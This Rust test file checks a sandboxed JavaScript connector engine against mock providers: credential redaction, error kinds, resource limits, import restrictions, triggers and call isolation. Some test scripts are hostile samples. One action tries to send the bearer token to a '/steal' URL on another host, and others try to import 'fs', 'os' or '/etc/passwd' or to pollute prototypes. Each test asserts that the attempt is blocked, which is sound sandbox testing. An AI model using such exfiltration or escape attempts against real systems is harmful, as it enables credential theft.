//! Packaged connectors in the sandboxed JavaScript engine, against fake providers on
//! loopback: what a script can reach, what it cannot, how its failures are classified, and
//! that a script stopped by a limit leaves the engine serving the next call.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::{Duration, Instant};

use durable_connectors::{
    ActionCall, CallError, Connector, Credential, Delivery, ErrorKind, HttpPolicy, JsConfig,
    JsLimits, JsRuntime, Outbound, Package, PollCall, ScriptConnector, Secret,
};
use serde_json::{Value, json};
use wiremock::matchers::{body_json, header, method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate};

const TOKEN: &str = "sekrit-token-4242";

/// A package named `notes` with these actions and triggers and files (`index.js` is main).
fn package(actions: &[&str], triggers: Value, files: &[(&str, &str)]) -> Arc<Package> {
    let actions: Vec<Value> = actions
        .iter()
        .map(|key| json!({ "key": key, "inputSchema": { "type": "object" } }))
        .collect();
    let manifest = json!({
        "name": "notes",
        "version": "0.1.0",
        "baseUrl": "https://notes.example.com",
        "main": "index.js",
        "auth": { "type": "api_key", "header": "Authorization", "prefix": "Bearer" },
        "actions": actions,
        "triggers": triggers,
    });
    let files: BTreeMap<String, String> = files
        .iter()
        .map(|(p, s)| ((*p).to_owned(), (*s).to_owned()))
        .collect();
    Arc::new(Package::from_parts(manifest, files).expect("a valid package"))
}

/// A package whose only file is `index.js`, exporting `actions` from `source`.
fn actions(keys: &[&str], source: &str) -> Arc<Package> {
    package(keys, json!([]), &[("index.js", source)])
}

fn load(package: Arc<Package>, runtime: &JsRuntime) -> ScriptConnector {
    ScriptConnector::new(package, runtime.clone()).expect("the package loads")
}

fn outbound() -> Outbound {
    Outbound::new(HttpPolicy {
        allow_loopback: true,
        ..HttpPolicy::default()
    })
}

fn call(base_url: &str, input: Value) -> ActionCall {
    ActionCall {
        input,
        idempotency_key: "run-1:3".to_owned(),
        attempt: 1,
        base_url: base_url.to_owned(),
        http: outbound().with_header("Idempotency-Key", "run-1:3"),
        credential: Some(Credential::Token(Secret::new(TOKEN))),
    }
}

/// A runtime with small limits, so that the limit tests are quick.
fn tight() -> JsRuntime {
    JsRuntime::new(JsConfig {
        limits: JsLimits {
            memory_bytes: 16 * 1024 * 1024,
            cpu_time: Duration::from_millis(200),
            ..JsLimits::default()
        },
        engine_threads: 1,
        ..JsConfig::default()
    })
}

async fn run(connector: &ScriptConnector, action: &str) -> Result<Value, CallError> {
    connector
        .call(action, call("http://127.0.0.1:9", json!({})))
        .await
}

#[tokio::test]
async fn an_action_calls_the_provider_and_returns_its_json() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/notes"))
        .and(header("Idempotency-Key", "run-1:3"))
        .and(body_json(json!({ "title": "hello" })))
        .respond_with(
            ResponseTemplate::new(201).set_body_json(json!({ "id": 7, "title": "hello" })),
        )
        .expect(1)
        .mount(&server)
        .await;
    let connector = load(
        actions(
            &["create_note"],
            r#"
            export const actions = {
              async create_note(input, ctx) {
                const res = await ctx.http.request({
                  method: "POST", url: `${ctx.baseUrl}/notes`, json: { title: input.title },
                });
                ctx.log.info("created", { id: res.json.id });
                return { ...res.json, status: res.status, attempt: ctx.attempt,
                         key: ctx.idempotencyKey, same: input === ctx.input };
              },
            };"#,
        ),
        &JsRuntime::default(),
    );
    let output = connector
        .call(
            "create_note",
            call(&server.uri(), json!({ "title": "hello" })),
        )
        .await
        .unwrap();
    assert_eq!(
        output,
        json!({ "id": 7, "title": "hello", "status": 201, "attempt": 1, "key": "run-1:3", "same": true })
    );
}

#[tokio::test]
async fn the_credential_is_applied_in_rust_and_never_reaches_the_script() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/me"))
        .and(header("Authorization", format!("Bearer {TOKEN}").as_str()))
        // A provider that echoes the credential back.
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({ "you": format!("Bearer {TOKEN}") }))
                .insert_header("x-echo", TOKEN),
        )
        .expect(1)
        .mount(&server)
        .await;
    let connector = load(
        actions(
            &["whoami", "exfiltrate"],
            r#"
            export const actions = {
              async whoami(input, ctx) {
                const res = await ctx.http.request({ url: `${ctx.baseUrl}/me`, auth: true });
                const everything = Object.getOwnPropertyNames(globalThis).join(",");
                return { ctx: JSON.stringify(ctx), body: res.body, echo: res.headers["x-echo"],
                         everything };
              },
              async exfiltrate(input, ctx) {
                await ctx.http.request({ url: "http://127.0.0.2:9/steal", auth: true });
              },
            };"#,
        ),
        &JsRuntime::default(),
    );
    let output = connector
        .call("whoami", call(&server.uri(), json!({})))
        .await
        .unwrap();
    let text = output.to_string();
    assert!(!text.contains(TOKEN), "the script saw the token: {text}");
    assert!(
        output["ctx"].as_str().unwrap().contains("run-1:3"),
        "{output}"
    );
    assert_eq!(output["body"], r#"{"you":"[REDACTED]"}"#);
    assert_eq!(output["echo"], "[REDACTED]");

    // The credential goes only to the base URL's origin, not to one the script picks.
    let err = connector
        .call("exfiltrate", call(&server.uri(), json!({})))
        .await
        .unwrap_err();
    assert_eq!(err.kind, ErrorKind::ScriptError);
    assert!(err.message.contains("only to requests"), "{err:?}");
    assert!(!err.message.contains(TOKEN));
}

#[tokio::test]
async fn a_429_with_retry_after_fails_the_step_as_rate_limited_with_the_delay() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/notes"))
        .respond_with(ResponseTemplate::new(429).insert_header("Retry-After", "7"))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/flaky"))
        .respond_with(ResponseTemplate::new(500).set_body_string("oops"))
        .mount(&server)
        .await;
    let connector = load(
        actions(
            &["list", "caught", "lenient"],
            r#"
            export const actions = {
              async list(input, ctx) {
                return (await ctx.http.request({ url: `${ctx.baseUrl}/notes` })).json;
              },
              async caught(input, ctx) {
                try {
                  await ctx.http.request({ url: `${ctx.baseUrl}/notes` });
                } catch (e) {
                  return { name: e.name, kind: e.kind, status: e.status,
                           retryAfterMs: e.retryAfterMs, responseStatus: e.response.status };
                }
              },
              async lenient(input, ctx) {
                const res = await ctx.http.request({ url: `${ctx.baseUrl}/flaky`, throwOnError: false });
                return { status: res.status, body: res.body, json: res.json ?? null };
              },
            };"#,
        ),
        &JsRuntime::default(),
    );
    let err = connector
        .call("list", call(&server.uri(), json!({})))
        .await
        .unwrap_err();
    assert_eq!(err.kind, ErrorKind::RateLimited, "{err:?}");
    assert_eq!(err.status, Some(429));
    assert_eq!(err.retry_after, Some(Duration::from_secs(7)));

    let caught = connector
        .call("caught", call(&server.uri(), json!({})))
        .await
        .unwrap();
    assert_eq!(
        caught,
        json!({ "name": "ConnectorError", "kind": "rate_limited", "status": 429,
                "retryAfterMs": 7000, "responseStatus": 429 })
    );
    let lenient = connector
        .call("lenient", call(&server.uri(), json!({})))
        .await
        .unwrap();
    assert_eq!(
        lenient,
        json!({ "status": 500, "body": "oops", "json": null })
    );
}

#[tokio::test]
async fn scripts_classify_their_own_errors() {
    let connector = load(
        actions(
            &["later", "never", "claims_a_limit", "bad_kind"],
            r#"
            export const actions = {
              later(input, ctx) { throw ctx.retryable("busy", { retryAfterMs: 1500 }); },
              never(input, ctx) { throw ctx.terminal("no such board", { kind: "not_found" }); },
              claims_a_limit() { throw Object.assign(new Error("x"), { kind: "script_timeout" }); },
              bad_kind(input, ctx) { throw ctx.retryable("x", { kind: "rejected" }); },
            };"#,
        ),
        &JsRuntime::default(),
    );
    let later = run(&connector, "later").await.unwrap_err();
    assert_eq!(
        (later.kind, later.retry_after, later.message.as_str()),
        (
            ErrorKind::Upstream,
            Some(Duration::from_millis(1500)),
            "busy"
        )
    );
    let never = run(&connector, "never").await.unwrap_err();
    assert_eq!(
        (never.kind, never.message.as_str()),
        (ErrorKind::NotFound, "no such board")
    );
    // The script limits are the engine's verdicts, not the script's.
    let claims = run(&connector, "claims_a_limit").await.unwrap_err();
    assert_eq!(claims.kind, ErrorKind::ScriptError);
    let bad = run(&connector, "bad_kind").await.unwrap_err();
    assert_eq!(bad.kind, ErrorKind::ScriptError);
    assert!(bad.message.contains("must be one of"), "{bad:?}");
}

#[tokio::test]
async fn a_thrown_error_is_a_script_error_with_its_message_and_place() {
    let connector = load(
        actions(
            &["boom", "not_json", "nothing"],
            "export const actions = {\n  boom() {\n    throw new Error(\"the board is on fire\");\n  },\n  not_json() { return { n: 10n }; },\n  nothing() {},\n};\n",
        ),
        &JsRuntime::default(),
    );
    let err = run(&connector, "boom").await.unwrap_err();
    assert_eq!(err.kind, ErrorKind::ScriptError);
    assert!(!err.kind.is_retryable());
    assert!(
        err.message.contains("Error: the board is on fire") && err.message.contains("index.js:3"),
        "{err:?}"
    );
    let err = run(&connector, "not_json").await.unwrap_err();
    assert_eq!(err.kind, ErrorKind::ScriptError);
    assert!(err.message.contains("not JSON"), "{err:?}");
    assert_eq!(run(&connector, "nothing").await.unwrap(), Value::Null);
}

#[tokio::test]
async fn a_runaway_loop_is_stopped_and_the_next_call_is_served() {
    let runtime = tight();
    let connector = load(
        actions(
            &["spin", "spin_and_catch", "ok"],
            r#"
            export const actions = {
              spin() { while (true) {} },
              spin_and_catch() { for (;;) { try { while (true) {} } catch (e) {} } },
              ok() { return "still here"; },
            };"#,
        ),
        &runtime,
    );
    for action in ["spin", "spin_and_catch"] {
        let started = Instant::now();
        let err = run(&connector, action).await.unwrap_err();
        assert_eq!(err.kind, ErrorKind::ScriptTimeout, "{err:?}");
        assert!(err.message.contains("CPU time limit of 200ms"), "{err:?}");
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{:?}",
            started.elapsed()
        );
        assert_eq!(run(&connector, "ok").await.unwrap(), json!("still here"));
    }
}

#[tokio::test]
async fn work_a_failed_call_left_queued_never_runs_in_the_next() {
    let runtime = tight();
    let connector = load(
        actions(
            &["leave_work", "ok"],
            r#"
            export const actions = {
              leave_work() {
                Promise.resolve().then(() => { for (;;) {} });
                throw new Error("gone before the queue ran");
              },
              ok() { return "fresh"; },
            };"#,
        ),
        &runtime,
    );
    for _ in 0..3 {
        let err = run(&connector, "leave_work").await.unwrap_err();
        assert!(err.message.contains("gone before"), "{err:?}");
        assert_eq!(run(&connector, "ok").await.unwrap(), json!("fresh"));
    }
}

#[tokio::test]
async fn unbounded_allocation_hits_the_memory_cap_and_the_next_call_is_served() {
    let runtime = tight();
    let connector = load(
        actions(
            &["arrays", "strings", "kept", "ok"],
            r#"
            const kept = [];
            export const actions = {
              arrays() { let a = []; for (;;) a.push(new Array(1e6).fill(1)); },
              strings() { let s = "x"; for (;;) s = s + s; },
              kept() { for (;;) kept.push({ a: [1, 2, 3], b: "y".repeat(100) }); },
              ok() { return [1, 2, 3].map((x) => x * 2); },
            };"#,
        ),
        &runtime,
    );
    for action in ["arrays", "strings", "kept"] {
        let err = run(&connector, action).await.unwrap_err();
        assert_eq!(err.kind, ErrorKind::ScriptMemory, "{action}: {err:?}");
        assert!(err.message.contains("memory limit of 16 MiB"), "{err:?}");
        assert_eq!(run(&connector, "ok").await.unwrap(), json!([2, 4, 6]));
    }
}

#[tokio::test]
async fn deep_recursion_hits_the_stack_limit() {
    let connector = load(
        actions(
            &["recurse"],
            "export const actions = { recurse() { const f = (n) => f(n + 1) + 1; return f(0); } };",
        ),
        &JsRuntime::default(),
    );
    let err = run(&connector, "recurse").await.unwrap_err();
    assert_eq!(err.kind, ErrorKind::ScriptMemory, "{err:?}");
    assert!(err.message.contains("stack limit"), "{err:?}");
}

#[tokio::test]
async fn the_clock_and_randomness_are_refused_but_explicit_dates_work() {
    let connector = load(
        actions(
            &["now", "new_date", "date_call", "random", "explicit"],
            r#"
            export const actions = {
              now() { return Date.now(); },
              new_date() { return new Date().toISOString(); },
              date_call() { return Date(); },
              random() { return Math.random(); },
              explicit() {
                const d = new Date(Date.UTC(2024, 1, 29));
                return { iso: d.toISOString(), parsed: Date.parse("2024-02-29T00:00:00Z"),
                         isDate: d instanceof Date, ctor: d.constructor === Date,
                         from: new Date("2020-01-01T00:00:00Z").getUTCFullYear() };
              },
            };"#,
        ),
        &JsRuntime::default(),
    );
    for action in ["now", "new_date", "date_call", "random"] {
        let err = run(&connector, action).await.unwrap_err();
        assert_eq!(err.kind, ErrorKind::ScriptError, "{action}");
        assert!(
            err.message.contains("is not available in a connector"),
            "{action}: {err:?}"
        );
    }
    assert!(
        run(&connector, "now")
            .await
            .unwrap_err()
            .message
            .contains("Date.now")
    );
    assert_eq!(
        run(&connector, "explicit").await.unwrap(),
        json!({ "iso": "2024-02-29T00:00:00.000Z", "parsed": 1_709_164_800_000_i64,
                "isDate": true, "ctor": true, "from": 2020 })
    );
}

#[tokio::test]
async fn only_the_packages_own_files_can_be_imported() {
    let runtime = JsRuntime::default();
    // A static import of a built-in module is refused at load.
    for specifier in ["fs", "std", "os", "/etc/passwd", "https://example.com/x.js"] {
        let source =
            format!("import x from \"{specifier}\";\nexport const actions = {{ a() {{}} }};");
        let err = ScriptConnector::new(actions(&["a"], &source), runtime.clone()).unwrap_err();
        assert_eq!(err.kind, ErrorKind::ScriptError);
        assert!(
            err.message.contains(specifier) && err.message.contains("own package"),
            "{specifier}: {err:?}"
        );
    }
    // The package's own files can, by relative path, with `import` statements; `import()` is
    // refused, even of a package file (one whose top-level `await` never settles would take
    // the process down when collected).
    let connector = load(
        package(
            &["double", "dynamic", "escape"],
            json!([]),
            &[
                (
                    "index.js",
                    r#"
                    import { twice } from "./lib/math.js";
                    export const actions = {
                      double(input) { return twice(input.n); },
                      async dynamic() { return (await import("./lib/math.js")).twice(4); },
                      async escape() { await import("os"); },
                    };"#,
                ),
                (
                    "lib/math.js",
                    "import { one } from '../one.mjs';\nexport const twice = (n) => n * 2 * one;",
                ),
                ("one.mjs", "export const one = 1;"),
            ],
        ),
        &runtime,
    );
    let output = connector
        .call("double", call("http://127.0.0.1:9", json!({ "n": 21 })))
        .await
        .unwrap();
    assert_eq!(output, json!(42));
    for action in ["dynamic", "escape"] {
        let err = run(&connector, action).await.unwrap_err();
        assert_eq!(err.kind, ErrorKind::ScriptError);
        assert!(
            err.message.contains("`import()` is not available"),
            "{err:?}"
        );
    }
    let hangs = package(
        &["a"],
        json!([]),
        &[
            (
                "index.js",
                "await import('./never.js');\nexport const actions = { a() {} };",
            ),
            ("never.js", "await new Promise(() => {});"),
        ],
    );
    let err = ScriptConnector::new(hangs, runtime.clone()).unwrap_err();
    assert!(
        err.message.contains("`import()` is not available"),
        "{err:?}"
    );
    let hangs = package(
        &["a"],
        json!([]),
        &[
            (
                "index.js",
                "import './never.js';\nexport const actions = { a() {} };",
            ),
            ("never.js", "await new Promise(() => {});"),
        ],
    );
    let err = ScriptConnector::new(hangs, runtime).unwrap_err();
    assert!(err.message.contains("nothing will settle"), "{err:?}");
}

#[tokio::test]
async fn a_polling_trigger_returns_events_and_a_cursor() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/notes"))
        .and(query_param("after", "3"))
        .and(header("Authorization", format!("Bearer {TOKEN}").as_str()))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({ "notes": [{ "id": 4 }, { "id": 5 }] })),
        )
        .expect(1)
        .mount(&server)
        .await;
    let triggers =
        json!([{ "type": "polling", "key": "new_notes", "interval": "1m", "dedupeField": "/id" }]);
    let source = r#"
        export const actions = {};
        export const triggers = {
          new_notes: {
            async poll(ctx) {
              const res = await ctx.http.request({
                url: `${ctx.baseUrl}/notes?after=${ctx.cursor ?? 0}`, auth: true,
              });
              const notes = res.json.notes;
              return { events: notes, cursor: notes.at(-1)?.id ?? ctx.cursor, params: ctx.params };
            },
          },
        };"#;
    let connector = load(
        package(&[], triggers, &[("index.js", source)]),
        &JsRuntime::default(),
    );
    let polled = connector
        .poll(
            "new_notes",
            PollCall {
                params: json!({ "board": "b1" }),
                cursor: Some(json!(3)),
                base_url: server.uri(),
                http: outbound(),
                credential: Some(Credential::Token(Secret::new(TOKEN))),
            },
        )
        .await
        .unwrap();
    assert_eq!(polled.events, [json!({ "id": 4 }), json!({ "id": 5 })]);
    assert_eq!(polled.cursor, Some(json!(5)));
}

#[tokio::test]
async fn a_webhook_delivery_becomes_events() {
    let triggers = json!([{ "type": "webhook", "key": "note_hook" }]);
    let source = r#"
        export const actions = {};
        export const triggers = {
          note_hook: {
            receive(delivery, ctx) {
              ctx.log.info("delivery", { type: delivery.json.type });
              if (delivery.json.type !== "note.created") return [];
              return [{ ...delivery.json.note, via: delivery.headers["x-source"], raw: delivery.body.length }];
            },
          },
        };"#;
    let connector = load(
        package(&[], triggers, &[("index.js", source)]),
        &JsRuntime::default(),
    );
    let body = json!({ "type": "note.created", "note": { "id": 9 } }).to_string();
    let delivery = Delivery {
        headers: vec![("X-Source".into(), "notes".into())],
        body: body.clone().into_bytes(),
    };
    let events = connector.receive("note_hook", &delivery).unwrap();
    assert_eq!(
        events,
        [json!({ "id": 9, "via": "notes", "raw": body.len() })]
    );
    let other = Delivery {
        headers: vec![],
        body: br#"{"type":"note.deleted"}"#.to_vec(),
    };
    assert!(connector.receive("note_hook", &other).unwrap().is_empty());
    let err = connector.receive("nope", &other).unwrap_err();
    assert_eq!(err.kind, ErrorKind::NotFound);
}

#[tokio::test]
async fn typed_arrays_are_there_when_the_package_names_them() {
    let runtime = JsRuntime::default();
    let named = load(
        actions(
            &["bytes"],
            "export const actions = { bytes() { return Array.from(new Uint8Array([1, 2, 300])); } };",
        ),
        &runtime,
    );
    assert_eq!(run(&named, "bytes").await.unwrap(), json!([1, 2, 44]));
    let unnamed = load(
        actions(
            &["probe"],
            r#"export const actions = { probe() { return typeof globalThis["Uint" + "8" + "Array"]; } };"#,
        ),
        &runtime,
    );
    assert_eq!(run(&unnamed, "probe").await.unwrap(), json!("undefined"));
}

#[tokio::test]
async fn calls_share_no_state() {
    let connector = load(
        actions(
            &["touch"],
            r#"
            let count = 0;
            export const actions = {
              touch() {
                count += 1;
                globalThis.seen = (globalThis.seen ?? 0) + 1;
                const polluted = ({}).polluted === true;
                Object.prototype.polluted = true;
                Array.prototype.push = () => { throw new Error("broken"); };
                return { count, seen: globalThis.seen, polluted };
              },
            };"#,
        ),
        &JsRuntime::default(),
    );
    for _ in 0..3 {
        assert_eq!(
            run(&connector, "touch").await.unwrap(),
            json!({ "count": 1, "seen": 1, "polluted": false })
        );
    }
}

#[tokio::test]
async fn a_syntax_error_is_reported_at_load_with_its_file() {
    let runtime = JsRuntime::default();
    let broken = package(
        &["a"],
        json!([]),
        &[
            (
                "index.js",
                "import { f } from './lib.js';\nexport const actions = { a: f };",
            ),
            ("lib.js", "export function f() {\n  return 1 +;\n}\n"),
        ],
    );
    let err = ScriptConnector::new(broken, runtime.clone()).unwrap_err();
    assert_eq!(err.kind, ErrorKind::ScriptError);
    assert!(
        err.message.contains("`lib.js` does not compile") && err.message.contains("SyntaxError"),
        "{err:?}"
    );
    assert!(err.message.contains("lib.js:2"), "{err:?}");

    let throws = actions(
        &["a"],
        "throw new Error('no config');\nexport const actions = {};",
    );
    let err = ScriptConnector::new(throws, runtime.clone()).unwrap_err();
    assert!(err.message.contains("no config"), "{err:?}");

    let missing = package(
        &["a", "b"],
        json!([{ "type": "polling", "key": "feed", "interval": "1m", "dedupeField": "/id" }]),
        &[("index.js", "export const actions = { a() {} };")],
    );
    let err = ScriptConnector::new(missing, runtime).unwrap_err();
    assert_eq!(err.kind, ErrorKind::NotFound);
    assert!(
        err.message.contains("actions.b") && err.message.contains("triggers"),
        "{err:?}"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn many_calls_wait_on_http_at_once_past_the_engine_threads() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/slow"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(json!({ "ok": true }))
                .set_delay(Duration::from_millis(400)),
        )
        .mount(&server)
        .await;
    let runtime = tight(); // one engine thread
    let connector = Arc::new(load(
        actions(
            &["slow"],
            r#"
            export const actions = {
              async slow(input, ctx) {
                const [a, b] = await Promise.all([
                  ctx.http.request({ url: `${ctx.baseUrl}/slow` }),
                  ctx.http.request({ url: `${ctx.baseUrl}/slow` }),
                ]);
                return a.json.ok && b.json.ok && input.i;
              },
            };"#,
        ),
        &runtime,
    ));
    let started = Instant::now();
    let calls: Vec<_> = (0..32)
        .map(|i| {
            let connector = Arc::clone(&connector);
            let provider = server.uri();
            tokio::spawn(async move {
                connector
                    .call("slow", call(&provider, json!({ "i": i })))
                    .await
            })
        })
        .collect();
    for (i, handle) in calls.into_iter().enumerate() {
        assert_eq!(handle.await.unwrap().unwrap(), json!(i));
    }
    // 32 calls × 2 requests of 400 ms each, one at a time, would take 25 s.
    assert!(
        started.elapsed() < Duration::from_secs(4),
        "{:?}",
        started.elapsed()
    );
}
